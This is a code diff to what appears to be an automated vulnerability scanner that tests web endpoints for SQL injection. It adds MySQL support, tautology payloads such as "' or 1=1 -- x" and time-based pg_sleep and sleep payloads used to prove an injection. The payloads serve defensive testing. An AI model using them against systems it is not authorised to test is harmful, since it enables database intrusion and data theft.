@@ -3,8 +3,9 @@
 from __future__ import annotations
 
 import re
+from collections.abc import Iterator, Sequence
 
-from roadworthy.app import Table
+from roadworthy.app import Origin, Table
 from roadworthy.patterns.malicious_input.injection.scene import Scene
 from roadworthy.proof import Reproduction
 from roadworthy.proof.experiment import database_of
@@ -13,15 +14,25 @@ from roadworthy.trial import Response
 from roadworthy.views.people.people import owner_of, users_table
 
 # Each ends the value where it stands (text, a number, within brackets) and leaves out the rest of the statement.
-_ALL_ROWS = ("' or 1=1 --", "1 or 1=1 --", "') or 1=1 --", "1) or 1=1 --")
+# MySQL takes two dashes for a comment only where a space follows.
+_ALL_ROWS = ("' or 1=1 -- x", "1 or 1=1 -- x", "') or 1=1 -- x", "1) or 1=1 -- x")
 _PAUSE_SECONDS = 1.5
 # As text, as a number or a name to sort by, and as a statement of its own.
-_PAUSES = (
-    "{mark}'||(select '' from pg_sleep({seconds}))||'",
-    "(select 1 from pg_sleep({seconds}))",
-    "{mark}'; select pg_sleep({seconds}) --",
-    "1; select pg_sleep({seconds}) --",
-)
+_PAUSES = {
+    "postgres": (
+        "{mark}'||(select '' from pg_sleep({seconds}))||'",
+        "(select 1 from pg_sleep({seconds}))",
+        "{mark}'; select pg_sleep({seconds}) --",
+        "1; select pg_sleep({seconds}) --",
+        # Where no row is found, nothing that rows are sorted by is reckoned; how many may come is.
+        "1 limit (select 1 from pg_sleep({seconds}))",
+    ),
+    "mysql": (
+        "{mark}' or (select sleep({seconds})) = 1 or '",
+        "(select sleep({seconds}))",
+        "{mark}'; select sleep({seconds}) -- x",
+    ),
+}
 
 
 def prove(scene: Scene) -> Reproduction:
@@ -29,24 +40,55 @@ def prove(scene: Scene) -> Reproduction:
     experiment = scene.experiment
     database = database_of(scene.trial)
     secret = _arrange(scene)
-    usual = scene.send(scene.mark, f"{scene.actor} sends an honest `{scene.name}`", "arrange")
+    usual = _usual(scene)
     if not usual.ok:
         return experiment.untestable(f"an honest value is not accepted: {usual.status} {usual.text[:80]}")
     seen = _leaked(scene, secret) if secret and secret not in usual.text else ""
     if seen:
         return experiment.proven(seen)
-    paused = _paused(scene, usual) if database.kind == "postgres" else ""
+    pauses = _PAUSES.get(database.kind, ())
+    paused = _paused(scene, usual, pauses)
     if paused:
         return experiment.proven(paused)
     if _is_text(scene):
         return experiment.untestable(
             "the value is part of the statement, but none of the values tried changed it"
         )
-    if database.kind != "postgres":
+    if not pauses:
         return experiment.untestable(f"{database.kind} takes no pause, and no value showed other rows")
     return experiment.cleared(
         "the values came out as values: no other rows, no pause, none of them in the statement"
     )
+
+
+def _usual(scene: Scene) -> Response:
+    """The answer to an honest value: a word, and where only the name of a column will do, what the app itself takes for nothing."""
+    says = f"{scene.actor} sends an honest `{scene.name}`"
+    answer = scene.send(scene.mark, says, "arrange")
+    default = "" if answer.ok else default_of(scene)
+    return scene.send(default, says, "arrange") if default else answer
+
+
+def default_of(scene: Scene) -> str:
+    """What the statement gets where the request says nothing: `sort || "created_at"`."""
+    given = [use.arguments for use in scene.endpoint.uses if use.location == scene.found.place]
+    defaults = (
+        str(one.value)
+        for arguments in given
+        for choice in _choices(arguments)
+        if scene.found.part in choice
+        for one in choice
+        if one.kind == "constant" and one.value
+    )
+    return next(defaults, "")
+
+
+def _choices(origins: Sequence[Origin]) -> Iterator[tuple[Origin, ...]]:
+    """The values of which one is taken, at every place where the code chooses."""
+    for origin in origins:
+        if origin.operation in ("or", "??"):
+            yield origin.inputs
+        yield from _choices(origin.inputs)
 
 
 def _leaked(scene: Scene, secret: str) -> str:
@@ -59,9 +101,9 @@ def _leaked(scene: Scene, secret: str) -> str:
     return ""
 
 
-def _paused(scene: Scene, usual: Response) -> str:
+def _paused(scene: Scene, usual: Response, pauses: Sequence[str]) -> str:
     """What is told where a pause of the asked length came twice, and none when none was asked for."""
-    for value in _PAUSES:
+    for value in pauses:
         if not _waits(scene, value):
             continue
         at_once = scene.send(value.format(mark=scene.mark, seconds=0), "the same with no pause", "observe")
